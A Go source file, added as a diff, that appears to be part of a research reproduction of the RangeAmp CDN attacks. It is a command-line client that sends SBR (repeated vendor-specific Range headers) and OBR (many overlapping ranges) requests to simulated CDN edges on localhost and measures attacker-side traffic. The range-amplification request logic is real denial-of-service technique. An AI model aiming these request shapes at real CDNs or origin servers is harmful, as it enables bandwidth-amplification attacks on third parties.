@@ -1,0 +1,182 @@
+// Command attack is the RangeAmp attack client for the TCP demo stack:
+// it crafts the SBR or OBR request shapes against a cdnsim edge and
+// reports the attacker-side traffic (the tiny denominator of the
+// amplification factor). Point it only at edges you run yourself.
+//
+// Usage:
+//
+//	attack -mode sbr -edge 127.0.0.1:8081 -path /10MB.bin -vendor cloudflare -count 10
+//	attack -mode obr -edge 127.0.0.1:8083 -path /1KB.bin -fcdn cloudflare -bcdn akamai
+package main
+
+import (
+	"bufio"
+	"flag"
+	"fmt"
+	"net"
+	"os"
+	"strconv"
+	"time"
+
+	"repro/internal/core"
+	"repro/internal/h2"
+	"repro/internal/httpwire"
+	"repro/internal/netsim"
+	"repro/internal/vendor"
+)
+
+func main() {
+	if err := run(os.Args[1:], os.Stdout); err != nil {
+		fmt.Fprintln(os.Stderr, "attack:", err)
+		os.Exit(1)
+	}
+}
+
+func run(args []string, out *os.File) error {
+	fs := flag.NewFlagSet("attack", flag.ContinueOnError)
+	mode := fs.String("mode", "sbr", "attack: sbr|obr")
+	proto := fs.String("proto", "h1", "protocol to speak to the edge: h1|h2")
+	edgeAddr := fs.String("edge", "127.0.0.1:8081", "edge (FCDN) address")
+	path := fs.String("path", "/10MB.bin", "target resource path")
+	host := fs.String("host", core.AttackHost, "Host header")
+	vendorName := fs.String("vendor", "cloudflare", "sbr: edge vendor (selects the exploited Range case)")
+	sizeBytes := fs.Int64("size", 10<<20, "sbr: resource size (selects size-conditional cases)")
+	count := fs.Int("count", 1, "requests to send")
+	fcdnName := fs.String("fcdn", "cloudflare", "obr: FCDN vendor (selects the range-case lead and limits)")
+	bcdnName := fs.String("bcdn", "akamai", "obr: BCDN vendor (bounds n)")
+	n := fs.Int("n", 0, "obr: number of overlapping ranges (0 = planned max)")
+	if err := fs.Parse(args); err != nil {
+		return err
+	}
+
+	var sendFn func(addr, target, host, rangeHeader string) (int64, int64, int, error)
+	switch *proto {
+	case "h1":
+		sendFn = send
+	case "h2":
+		sendFn = sendH2
+	default:
+		return fmt.Errorf("unknown proto %q", *proto)
+	}
+
+	switch *mode {
+	case "sbr":
+		exploit := core.SBRExploit(*vendorName, *sizeBytes)
+		fmt.Fprintf(out, "SBR against %s: Range: %s (x%d per probe)\n", *edgeAddr, exploit.RangeHeader, exploit.Repeat)
+		var sent, received int64
+		start := time.Now()
+		for i := 0; i < *count; i++ {
+			target := *path + "?cb=atk" + strconv.Itoa(i)
+			for r := 0; r < exploit.Repeat; r++ {
+				up, down, status, err := sendFn(*edgeAddr, target, *host, exploit.RangeHeader)
+				if err != nil {
+					return fmt.Errorf("request %d: %w", i, err)
+				}
+				sent += up
+				received += down
+				if i == 0 && r == 0 {
+					fmt.Fprintf(out, "first response: HTTP %d, %d bytes on the wire\n", status, down)
+				}
+			}
+		}
+		fmt.Fprintf(out, "sent %d requests in %v: %d bytes out, %d bytes in\n",
+			*count*exploit.Repeat, time.Since(start).Round(time.Millisecond), sent, received)
+		fmt.Fprintf(out, "origin-side amplification is visible in origind/cdnsim logs\n")
+		return nil
+
+	case "obr":
+		fcdn, ok := vendor.ByName(*fcdnName)
+		if !ok {
+			return fmt.Errorf("unknown fcdn %q", *fcdnName)
+		}
+		bcdn, ok := vendor.ByName(*bcdnName)
+		if !ok {
+			return fmt.Errorf("unknown bcdn %q", *bcdnName)
+		}
+		plan := core.PlanMaxN(fcdn, bcdn, *path)
+		if *n > 0 {
+			plan.N = *n
+		}
+		rangeHeader := core.BuildOverlappingRange(plan.FirstToken, plan.N)
+		fmt.Fprintf(out, "OBR against %s: %d overlapping ranges (Range header %d bytes)\n",
+			*edgeAddr, plan.N, len(rangeHeader))
+		up, down, status, err := sendFn(*edgeAddr, *path, *host, rangeHeader)
+		if err != nil {
+			return err
+		}
+		fmt.Fprintf(out, "HTTP %d: sent %d bytes, received %d bytes (the fcdn-bcdn segment carried ~this)\n",
+			status, up, down)
+		return nil
+
+	default:
+		return fmt.Errorf("unknown mode %q", *mode)
+	}
+}
+
+// sendH2 performs one request over prior-knowledge cleartext HTTP/2
+// and returns approximate bytes out/in and the response status.
+func sendH2(addr, target, host, rangeHeader string) (up, down int64, status int, err error) {
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		return 0, 0, 0, err
+	}
+	seg := netsim.NewSegment("client-edge")
+	counted := &countingNetConn{Conn: conn, seg: seg}
+	defer counted.Close()
+
+	req := httpwire.NewRequest("GET", target, host)
+	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
+	if rangeHeader != "" {
+		req.Headers.Add("Range", rangeHeader)
+	}
+	resp, err := h2.Fetch(counted, req)
+	if err != nil {
+		return 0, 0, 0, err
+	}
+	tr := seg.Traffic()
+	return tr.Up, tr.Down, resp.StatusCode, nil
+}
+
+// countingNetConn counts TCP bytes into a segment.
+type countingNetConn struct {
+	net.Conn
+	seg *netsim.Segment
+}
+
+func (c *countingNetConn) Read(p []byte) (int, error) {
+	n, err := c.Conn.Read(p)
+	c.seg.AddDown(n)
+	return n, err
+}
+
+func (c *countingNetConn) Write(p []byte) (int, error) {
+	n, err := c.Conn.Write(p)
+	c.seg.AddUp(n)
+	return n, err
+}
+
+// send performs one raw HTTP/1.1 request and returns bytes out/in and
+// the response status.
+func send(addr, target, host, rangeHeader string) (up, down int64, status int, err error) {
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		return 0, 0, 0, err
+	}
+	defer conn.Close()
+
+	req := httpwire.NewRequest("GET", target, host)
+	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
+	if rangeHeader != "" {
+		req.Headers.Add("Range", rangeHeader)
+	}
+	req.Headers.Set("Connection", "close")
+	upN, err := req.WriteTo(conn)
+	if err != nil {
+		return upN, 0, 0, err
+	}
+	resp, err := httpwire.ReadResponse(bufio.NewReader(conn), httpwire.Limits{})
+	if err != nil {
+		return upN, 0, 0, err
+	}
+	return upN, int64(resp.WireSize()), resp.StatusCode, nil
+}
